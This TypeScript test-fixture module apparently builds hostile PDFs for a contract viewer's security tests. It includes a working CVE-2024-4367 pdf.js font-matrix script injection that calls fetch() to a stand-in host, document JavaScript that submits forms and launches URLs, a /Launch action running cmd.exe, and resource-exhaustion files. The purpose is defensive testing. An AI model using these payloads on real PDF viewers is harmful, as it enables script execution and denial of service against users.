/**
 * PDF files built at test time for the contract viewer's hostile-input tests: a plain one, and
 * files that try to run script, navigate, launch programs, exhaust the viewer (20,000 pages,
 * arrays nested 100,000 deep), or are not whole PDFs at all. Nothing binary is committed: each
 * file is written here, object by object, with a correct cross-reference table unless the point
 * is that it has none.
 */
import { crc32, deflateSync } from 'node:zlib';

/** What a hostile payload sets when it runs in the page; the tests read it back. */
export const PWNED_GLOBAL = '__pwned';
/** Where hostile links and scripts would send the page; no request may ever go there. */
export const HOSTILE_URL = 'http://example.invalid/';

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

function stream(dict: string, data: Buffer | string): Buffer {
  const body = typeof data === 'string' ? latin1(data) : data;
  const open = dict.trim().replace(/>>$/, '');
  return Buffer.concat([latin1(`${open}/Length ${body.length}>>\nstream\n`), body, latin1('\nendstream')]);
}

/**
 * A classic PDF: `objects[i]` is object i + 1's body (without `obj`/`endobj`), object 1 is the
 * catalog, and the file ends with an xref table and trailer.
 */
export function buildPdf(objects: readonly (string | Buffer)[], version = '1.7'): Buffer {
  const parts: Buffer[] = [latin1(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`)];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(length);
    const chunk = Buffer.concat([latin1(`${index + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n')]);
    parts.push(chunk);
    length += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(latin1(`${xref}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const PAGE_BOX = '/MediaBox [0 0 420 300]';
const HELVETICA = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>';

/** Text lines drawn from the top of a 420×300 page. */
function textContent(lines: readonly string[], size = 14): string {
  const escaped = lines.map((line) => line.replace(/[\\()]/g, (c) => `\\${c}`));
  return `BT /F1 ${size} Tf 24 260 Td ${size + 6} TL ${escaped.map((line) => `(${line}) '`).join(' ')} ET`;
}

/** An ordinary one-page document with a title and some text: what the viewer must show. */
export function plainPdf(title = 'CardDesk test document'): Buffer {
  return buildPdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids [3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${PAGE_BOX}/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>`,
    stream('<<>>', `${textContent([title, '', 'Enrollment contract, page one.', 'The holder keeps the card safe', 'and tells the issuer if it is lost.'])}\n0 0.4 0.8 RG 2 w 20 20 380 40 re S`),
    HELVETICA,
  ]);
}

/**
 * CVE-2024-4367: pdf.js before 4.2.67 pasted a font's /FontMatrix into JavaScript it compiled with
 * `new Function` when drawing glyphs as paths, so a string in the matrix ran as code. The font is
 * a Type1 font (Helvetica, whose outlines pdf.js draws from its own Type1 program) and the text is
 * drawn in stroke and clip rendering modes, which make the viewer build glyph paths.
 */
export function fontMatrixPdf(): Buffer {
  const payload = `1\\); window.${PWNED_GLOBAL} = 1; alert\\(1\\); fetch\\('${HOSTILE_URL}'\\); //`;
  return buildPdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids [3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${PAGE_BOX}/Resources<</Font<</F1 5 0 R/F2 6 0 R>>>>/Contents 4 0 R>>`,
    stream(
      '<<>>',
      [
        'BT /F1 28 Tf 1 Tr 24 240 Td (Stroked glyphs) Tj ET',
        'BT /F1 28 Tf 2 Tr 24 190 Td (Filled and stroked) Tj ET',
        'q BT /F2 28 Tf 7 Tr 24 140 Td (Clipping text) Tj ET 0 0 1 rg 0 0 420 300 re f Q',
        'BT /F2 18 Tf 0 Tr 24 80 Td (Font matrix check) Tj ET',
      ].join('\n'),
    ),
    `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix [1 0 0 1 0 (${payload})]>>`,
    `<</Type/Font/Subtype/Type1/BaseFont/Times-Roman/FontMatrix [0.001 0 0 0.001 0 (0\\); window.${PWNED_GLOBAL} = 2; //)]/FontDescriptor 7 0 R>>`,
    `<</Type/FontDescriptor/FontName/Times-Roman/Flags 34/FontBBox [0 0 1000 1000]/ItalicAngle 0/Ascent 900/Descent -100/CapHeight 700/StemV 80/FontMatrix [1 0 0 1 0 (0\\); window.${PWNED_GLOBAL} = 3; //)]>>`,
  ]);
}

/** Document JavaScript three ways: the /Names tree, /OpenAction and the page's open action. */
export function javascriptPdf(): Buffer {
  const js = `window.${PWNED_GLOBAL} = 1; app.alert\\(1\\); this.submitForm\\('${HOSTILE_URL}'\\); app.launchURL\\('${HOSTILE_URL}', true\\);`;
  return buildPdf([
    '<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 6 0 R>>/OpenAction 7 0 R/AA<</WC 7 0 R>>>>',
    '<</Type/Pages/Count 1/Kids [3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${PAGE_BOX}/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/AA<</O 7 0 R/C 7 0 R>>>>`,
    stream('<<>>', textContent(['A document with JavaScript', 'in /Names and /OpenAction.'])),
    HELVETICA,
    '<</Names [(startup) 7 0 R (second) 8 0 R]>>',
    `<</Type/Action/S/JavaScript/JS (${js})>>`,
    '<</Type/Action/S/JavaScript/JS 9 0 R>>',
    stream('<<>>', `window.${PWNED_GLOBAL} = 2; app.alert('from a stream');`),
  ]);
}

/** Link annotations: a /URI link to a hostile address and a /Launch of a program, plus a /Launch open action. */
export function actionsPdf(): Buffer {
  return buildPdf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction 8 0 R>>',
    '<</Type/Pages/Count 1/Kids [3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${PAGE_BOX}/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/Annots [6 0 R 7 0 R]>>`,
    stream('<<>>', `${textContent(['Links that must not be followed'])}\nBT /F1 14 Tf 30 165 Td (Visit the web) Tj ET BT /F1 14 Tf 30 85 Td (Start a program) Tj ET`),
    HELVETICA,
    `<</Type/Annot/Subtype/Link/Rect [20 150 220 190]/Border [0 0 1]/A<</Type/Action/S/URI/URI (${HOSTILE_URL})>>>>`,
    '<</Type/Annot/Subtype/Link/Rect [20 70 220 110]/Border [0 0 1]/A 8 0 R>>',
    `<</Type/Action/S/Launch/F (calc.exe)/NewWindow true/Win<</F (cmd.exe)/P (/c start ${HOSTILE_URL})>>>>`,
  ]);
}

/**
 * 20,000 pages in a few tens of kilobytes: every page shares one content stream, one font and the
 * inherited media box; the page objects sit in a compressed object stream and the cross-reference
 * is a compressed xref stream (PDF 1.5), so the file stays far below the 750 KiB the desk accepts.
 */
export function manyPagesPdf(pageCount = 20_000): Buffer {
  // 1 catalog, 2 content, 3 font, 4 object stream (holds 5 = page tree and 6… = pages), last = xref stream.
  const firstPage = 6;
  const inStream: { num: number; body: string }[] = [];
  const kids: string[] = [];
  for (let i = 0; i < pageCount; i += 1) kids.push(`${firstPage + i} 0 R`);
  inStream.push({ num: 5, body: `<</Type/Pages/Count ${pageCount}/Kids [${kids.join(' ')}]${PAGE_BOX}/Resources<</Font<</F1 3 0 R>>>>>>` });
  for (let i = 0; i < pageCount; i += 1) inStream.push({ num: firstPage + i, body: '<</Type/Page/Parent 5 0 R/Contents 2 0 R>>' });
  let bodies = '';
  const header: string[] = [];
  for (const object of inStream) {
    header.push(`${object.num} ${bodies.length}`);
    bodies += `${object.body}\n`;
  }
  const headerText = `${header.join(' ')}\n`;
  const objStm = deflateSync(latin1(headerText + bodies), { level: 9 });

  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const offsets = new Map<number, number>();
  const add = (num: number, body: Buffer | string): void => {
    offsets.set(num, length);
    const chunk = Buffer.concat([latin1(`${num} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n')]);
    parts.push(chunk);
    length += chunk.length;
  };
  add(1, '<</Type/Catalog/Pages 5 0 R>>');
  add(2, stream('<<>>', textContent(['One of twenty thousand pages', 'that all share this content.'])));
  add(3, HELVETICA);
  add(4, stream(`<</Type/ObjStm/N ${inStream.length}/First ${headerText.length}/Filter/FlateDecode>>`, objStm));
  const xrefNum = firstPage + pageCount;
  const size = xrefNum + 1;
  // Entries: type (1 byte), field 2 (4 bytes: offset or object stream number), field 3 (2 bytes).
  const entries = Buffer.alloc(size * 7);
  const entry = (num: number, type: number, field2: number, field3: number): void => {
    entries.writeUInt8(type, num * 7);
    entries.writeUInt32BE(field2, num * 7 + 1);
    entries.writeUInt16BE(field3, num * 7 + 5);
  };
  entry(0, 0, 0, 0xffff);
  for (const num of [1, 2, 3, 4]) entry(num, 1, offsets.get(num) ?? 0, 0);
  inStream.forEach((object, index) => entry(object.num, 2, 4, index));
  entry(xrefNum, 1, length, 0);
  const xrefOffset = length;
  add(xrefNum, stream(`<</Type/XRef/Size ${size}/W [1 4 2]/Root 1 0 R/Filter/FlateDecode>>`, deflateSync(entries, { level: 9 })));
  parts.push(latin1(`startxref\n${xrefOffset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** Arrays nested `depth` deep, as the page's annotations and as an object the catalog points to. */
export function deeplyNestedPdf(depth = 100_000): Buffer {
  const nested = `${'['.repeat(depth)}${']'.repeat(depth)}`;
  return buildPdf([
    '<</Type/Catalog/Pages 2 0 R/Deep 6 0 R>>',
    '<</Type/Pages/Count 1/Kids [3 0 R]>>',
    `<</Type/Page/Parent 2 0 R${PAGE_BOX}/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/Annots 6 0 R>>`,
    stream('<<>>', textContent(['Arrays nested 100,000 deep'])),
    HELVETICA,
    nested,
  ]);
}

/** A whole PDF cut off after its first half: no cross-reference table, no trailer, objects missing. */
export function truncatedPdf(): Buffer {
  const whole = plainPdf('This file was cut in half');
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** A real PNG image (a 2×2 red square), made here: not a PDF. */
export function pngBytes(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([latin1(type), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(2, 0);
  header.writeUInt32BE(2, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  const row = Buffer.from([0, 255, 0, 0, 255, 0, 0]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.concat([row, row]))), chunk('IEND', Buffer.alloc(0))]);
}
